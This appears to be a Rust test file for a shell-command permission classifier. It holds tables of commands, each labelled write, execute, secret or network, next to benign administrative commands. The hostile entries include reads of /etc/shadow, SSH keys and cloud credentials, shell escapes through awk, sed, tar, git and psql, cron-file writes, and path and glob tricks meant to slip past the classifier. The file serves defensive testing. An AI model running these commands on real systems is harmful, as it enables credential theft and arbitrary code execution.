//! Claims about the programs in `text`, `files`, `languages` and `databases`.

use super::check;

#[test]
fn what_attackers_make_of_readers_is_told() {
    check(
        r#"
        write   | find . -fprintf /etc/cron.d/x '* * * * * root id'
        write   | find . -fls /tmp/x
        -       | find . -exec sh ';'
        execute | awk 'BEGIN{system("sh")}'
        execute | awk -v x=1 -- 'BEGIN{system(x)}'
        execute | gawk -f /tmp/x
        execute | awk -f/tmp/x
        execute | gawk --fil=/tmp/x
        execute | sed -n '1e id' f
        execute | sed -ne '1e id' f
        execute | sed -n -f /tmp/x f
        execute | sed --expr='1e id' f
        write   | sed -i s/a/b/ /etc/passwd
        write   | sed -ni s/a/b/ /etc/passwd
        write   | sed --in-place=.b s/a/b/ /etc/hosts
        write   | sed --in-p s/a/b/ /etc/hosts
        write   | sed -e s/a/b/ -i.bak /etc/hosts
        secret  | sed -n p /etc/shadow
        secret  | sed 'r /etc/shadow' x
        write   | sed 's/a/b/w /etc/x' x
        write execute | tar xf x.tar --to-command=sh
        write execute | tar -xf x --to-com sh
        execute | tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh
        execute | tar -cf u@192.0.2.1:x /etc/hosts
        execute secret | tar -cf u@192.0.2.1:x /etc
        execute | tar tf h:x
        execute | tar -I sh -tf x
        secret  | tar -cf - /etc
        secret  | tar cz /root
        write   | tar -czf /tmp/x.tgz /var/log
        write   | tar xzf x.tgz -C /
        execute | tar czf - *
        secret  | grep -f /etc/shadow x
        secret  | grep --fil=/etc/shadow x
        secret  | grep -r '' /root/.ssh
        secret  | grep -R x /
        secret  | grep x /etc/shad?w
        secret  | grep -rn password
        secret  | wc --files0-from=-
        secret  | sort --files0-from=/tmp/names
        secret  | cat --files0-from -
        secret  | tar -cf - -T -
        secret  | tar -cf - --files-from=/tmp/names
        secret  | cpio -o
        write   | git reflog expire --all
        secret  | git log -O/etc/shadow
        secret  | grep -r x ~/.aws
        secret  | grep -r x /home/x/.docker
        secret  | grep -r x /srv/.config
        secret  | cat /etc/*
        secret  | cat /etc/*-
        secret  | cat ~/.ss[h]/*.pub
        execute | git --exec-path=/tmp log
        execute | git grep --open-files-in-pager=sh x
        execute | git grep -Osh x
        execute | git grep --open x
        write   | git log --output=/etc/cron.d/x
        write   | git diff --outp=/etc/cron.d/x
        network execute | git ls-remote --upload-pack=sh h:x
        network execute | git ls-remote 'ext::sh -c id'
        write network execute | git clone -u sh h:x
        write network | git clone https://h/x
        write execute | git clone -c core.x=y
        execute | git -C /tmp/evil status
        execute | git -c core.pager=sh log
        execute | git -c core.fsmonitor=id status
        execute | git --git-dir=/tmp/x log
        execute | git -p log
        execute | git show --ext-diff
        execute | git log --show-signature
        execute | git bisect run sh
        execute | git submodule foreach id
        write   | git config user.name x
        write   | git config --global core.pager sh
        write   | git branch x
        write   | git checkout x
        execute | git xyz
        secret  | git diff --no-index /dev/null /etc/shadow
        execute | emacs --eval '(shell-command "id")'
        execute | vim -c ':!id'
        execute | perl -v -e x
        execute | perl -v x.pl
        execute | python3 -v
        execute | tclsh --version
        execute | perl -e 'exec "sh"'
        execute | python -m http.server
        execute | python3 -c 'x'
        execute | ruby -e 'exec %q(sh)'
        execute | node -e 'x'
        execute | php -r 'x'
        execute | java -jar x.jar
        execute | java -version -jar x.jar
        execute | npm exec evil
        execute | npm run x
        execute | pip install x
        execute | gem install x
        execute | make
        execute | cargo run
        execute | openssl req -engine /tmp/x.so
        execute | openssl enc -in x -engine=/tmp/x
        secret  | openssl rsa -in /etc/ssl/x.pem
        secret  | openssl x509 -in /etc/ssl/private/x.pem
        secret  | openssl base64 -in /etc/shadow
        write   | openssl enc -in a -out /etc/x
        network | openssl s_client -connect h:443
        write execute | psql -c "copy t to program 'sh'"
        execute | psql -f /tmp/x
        execute | psql -c '\! id'
        write   | psql -o /etc/x -c 'select 1'
        write   | psql -c 'drop table x'
        write   | psql -At -c 'select 1; drop table x'
        write execute | mysql -e 'system id'
        execute | mysql --pager=sh -e 'select 1'
        secret  | mysqldump --all-databases
        write secret | pg_dump --file=/etc/x d
        write   | redis-cli flushall
        write   | redis-cli CONFIG SET dir /tmp
        secret  | redis-cli config get requirepass
        secret  | redis-cli config get '*'
        execute | redis-cli eval x 0
        execute | sqlite3 x.db '.shell id'
        execute | sqlite3 -init /tmp/x x.db
        execute | mongosh --eval 'db.dropDatabase()'
        execute | mongosh /tmp/x.js
        execute | fd -x sh
        execute | fd . -X rm
        secret  | jq -n env
        secret  | jq -n '$ENV'
        execute | jq -f /tmp/x .
        secret  | jq -R . /etc/shadow
        secret  | jq --rawfile a /etc/shadow .
        write   | yq -i '.a=1' f
        secret  | diff --to-file=/etc/shadow /dev/null
        secret  | diff /etc/shadow /dev/null
        secret  | diff -r /etc /tmp/x
        secret  | comm /etc/shadow x
        secret  | od -c /etc/shadow
        secret  | xxd /etc/shadow
        secret  | base64 /root/.ssh/id_rsa
        secret  | head -c1k /proc/self/environ
        secret  | cat /proc/1/environ
        secret  | cat /proc/self/root/etc/shadow
        secret  | cat //etc/./shadow
        secret  | cat /etc/../etc/shadow
        secret  | cat ../../etc/shadow
        secret  | cat -n /etc/shadow
        secret  | cat .ssh/id_ed25519
        secret  | cat /home/app/.aws/credentials
        secret  | cat /srv/app/.env
        secret  | tail -F /etc/shadow
        secret  | tail -n 5 /etc/gshadow-
        secret  | rg x /etc
        execute | rg --pre sh x
        execute | rg --pre=sh x /var/log
        execute | file -m /tmp/evil x
        secret  | wc --files0-from=/etc/shadow
        execute | man -P sh ls
        execute | man --pager=sh ls
        execute | man -Hsh ls
        execute | less +!id x
        write   | less -o /etc/x y
        write execute | split --filter=sh x
        write   | tee /etc/x
        write   | cp a /etc/x
        secret write | cp /etc/shadow /tmp/x
        secret write | cp -t /tmp /etc/shadow
        write   | mv a b
        write   | ln -s a b
        write   | rm -rf x
        write   | chmod 777 /etc
        write   | truncate -s0 x
        write   | gzip x
        secret  | gzip -c /etc/shadow
        secret  | zcat /etc/shadow
        write   | unzip x.zip
        secret  | dd if=/dev/sda
        "#,
    );
}

#[test]
fn what_people_do_all_day_needs_no_grant() {
    check(
        r#"
        -       | tail -n 100 /var/log/nginx/error.log
        -       | tail -f -n 5 /var/log/syslog
        -       | tail -5 /var/log/syslog
        -       | head -10
        -       | grep -c ' 500 ' /var/log/nginx/access.log
        -       | grep -rn listen /etc/nginx
        -       | grep -v '^#' /etc/ssh/sshd_config
        -       | grep -E 'a|b' --color=never -A 3 /var/log/syslog
        -       | grep [n]ginx
        -       | zgrep -h OOM /var/log/kern.log*.gz
        -       | wc -l /var/log/nginx/access.log
        -       | cut -d' ' -f1 /var/log/nginx/access.log
        -       | cut -d ' ' -f 1,2
        -       | sort -nr
        -       | sort -t: -k3 -n /etc/passwd
        -       | uniq -c
        -       | awk '{print $9}' /var/log/nginx/access.log
        -       | awk -F: '$3 >= 1000 {print $1}' /etc/passwd
        -       | awk 'NR==1 || $5+0 > 80'
        -       | sed -n 1,20p /etc/hosts
        -       | sed -e 's/a/b/' -e 's/c/d/' x
        -       | sed -n '/error/,/end/p' /var/log/syslog
        -       | cat /proc/loadavg
        -       | cat /proc/1234/status
        -       | cat /etc/passwd /etc/hosts
        -       | cat /var/log/syslog /var/log/*.log
        -       | cat .ssh/authorized_keys
        -       | cat /etc/nginx/nginx.conf
        -       | cat /etc/os-release
        -       | ls -la /etc/shadow /root/.ssh
        -       | ls -lh /var/backups
        -       | ls *.log
        -       | stat -c '%U:%G %a %n' /etc/shadow
        -       | du -sh /srv /etc
        -       | du -sh *
        -       | df -h /
        -       | test -f /etc/shadow
        -       | [ -d /x ]
        -       | echo 'a;b|c&d'
        -       | echo *
        -       | printf '%s\n' a
        -       | readlink -f /etc/x
        -       | sha256sum /usr/local/bin/app
        -       | md5sum -c /tmp/x.md5
        -       | file /bin/ls
        -       | find /etc/nginx -type f -name '*.conf'
        -       | find /var/log -name '*.gz' -mtime -7 -size +1M -print
        -       | find / -xdev -perm -4000 -type f
        -       | find . ! -name x '(' -user root -o -group root ')' -printf '%p\n'
        -       | find /x -type f -exec grep -l y {} +
        -       | tar tzf x.tgz
        -       | tar -tvf /var/backups/x.tar
        -       | tar --list --file=/x.tar
        -       | gzip -l x.gz
        -       | zcat /var/log/syslog.2.gz
        -       | unzip -l x.zip
        -       | which nginx
        -       | type ls
        -       | true
        -       | seq 1 10
        -       | sleep 5
        -       | basename /a/b
        -       | tr a-z A-Z
        -       | jq -r '.items[].metadata.name'
        -       | jq . /etc/x.json
        -       | jq --arg a b '.[$a]' f.json
        -       | yq '.a.b' f.yml
        -       | diff -u a b
        -       | comm -12 a b
        -       | od -c /var/x
        -       | base64 -w 0 /var/x
        -       | python3 --version
        -       | python3 -V
        -       | python3.11 --version
        -       | node --version
        -       | node -v
        -       | java -version
        -       | perl -v
        -       | php -v
        -       | git status
        -       | git status -sb
        -       | git log --oneline -5
        -       | git log -n 5 --stat
        -       | git log --since=yesterday --pretty=format:%h
        -       | git diff HEAD~1
        -       | git show HEAD
        -       | git branch -a
        -       | git branch
        -       | git branch --show-current
        -       | git tag -l 'v*'
        -       | git remote -v
        -       | git rev-parse --short HEAD
        -       | git stash list
        -       | git stash show -p
        -       | git reflog -n 5
        -       | git --no-pager log -1
        -       | git config --get user.name
        -       | git describe --tags
        -       | git blame x
        -       | git --version
        network | git fetch origin
        write   | git pull
        write network | git push -u origin x
        -       | vim --version
        -       | openssl version
        -       | openssl version -a
        -       | openssl ciphers -v 'HIGH:!aNULL'
        -       | cat /etc/*release
        -       | cat /etc/*-release
        -       | cat /etc/*.conf
        -       | cat ~/.ssh/*.pub
        -       | grep -r x /home/x/src
        -       | openssl x509 -in /etc/ssl/certs/x.pem -noout -dates
        -       | openssl x509 -enddate -noout -in /etc/letsencrypt/live/x/cert.pem
        -       | openssl verify -CAfile /x.pem /y.pem
        -       | psql -c 'select 1'
        -       | psql -U app -d db -h h -At -c 'select count(*) from t'
        -       | psql -l
        -       | psql --version
        -       | mysql -e 'show processlist'
        -       | mysql -u root -e 'SHOW SLAVE STATUS\G'
        -       | mysqladmin status
        -       | pg_isready -h h -p 5432
        -       | redis-cli ping
        -       | redis-cli -h h -p 6379 INFO memory
        -       | redis-cli config get maxmemory
        -       | redis-cli dbsize
        -       | sqlite3 -readonly x.db 'select 1'
        -       | sqlite3 x.db .tables
        -       | mongosh --quiet --eval 'db.serverStatus().connections'
        -       | man ls
        -       | less /var/log/syslog
        -       | npm ls -g --depth=0
        -       | npm --version
        -       | pip list
        -       | pip3 show requests
        -       | pip freeze
        -       | gem list
        -       | make --version
        -       | dd if=/dev/zero of=/dev/null bs=1M count=10
        -       | tree -L 2 /etc
        -       | rg -n error /var/log
        -       | locate x
        -       | strings /bin/ls
        -       | nl /etc/hosts
        -       | split --version
        "#,
    );
}

#[test]
fn a_trick_with_the_form_of_the_words_changes_nothing() {
    check(
        r#"
        write   | sort x -o /etc/x -k1 -no/etc/x
        -       | sort -- -o
        write   | sort -t -o/etc/x y
        write   | sort -k -o /etc/x
        execute | sort *.log
        secret  | cat ../../etc/sha*
        secret  | cat shado*
        -       | sort /var/log/*.log
        -       | wc -l *.log
        secret  | cat /etc/shado[w]
        secret  | cat /etc/*
        secret  | cat /etc/ssh/*
        secret  | cat /*/shadow
        secret  | cat /etc/ssl/private/*
        secret  | cat /root/.ssh/*
        secret  | cat /home/*/.ssh/id_*
        secret  | cat /home/*/.aws/*
        secret  | cat /proc/*/environ
        secret  | cat /srv/*/.env
        secret  | cat /srv/app/.e*
        secret  | cat /srv/*.key
        -       | cat /srv/app/*
        -       | cat /etc/nginx/sites-enabled/*
        -       | cat /proc/cpuinfo
        secret  | cat /proc/self/cwd/etc/shadow
        secret  | cat /proc/self/root//etc/../etc/shadow
        secret  | cat a/../../../etc/shadow
        secret  | cat /dev/sda1
        secret  | cat /root/.bash_history
        secret  | head -n1 -- /etc/shadow
        secret  | grep -hrne x /etc/
        secret  | grep -re x
        secret  | grep --recursive x /root
        secret  | grep -e x /etc/shadow
        secret  | awk '{print}' /etc/shadow
        secret  | awk '{print}' x=1 /etc/shadow
        secret  | sed p /var/log/x /etc/shadow
        secret  | tail -n +1 /etc/shadow
        write   | git log -1 --output /etc/x
        write   | find /x -name -delete
        write   | find . -type f -name x -delete
        execute | find /x -exe?
        secret  | dd if=/etc/shadow of=/dev/null
        write secret | dd if=/etc/shadow of=/tmp/x
        execute | git --config-env=core.pager=x log
        execute | git log --textconv
        "#,
    );
}
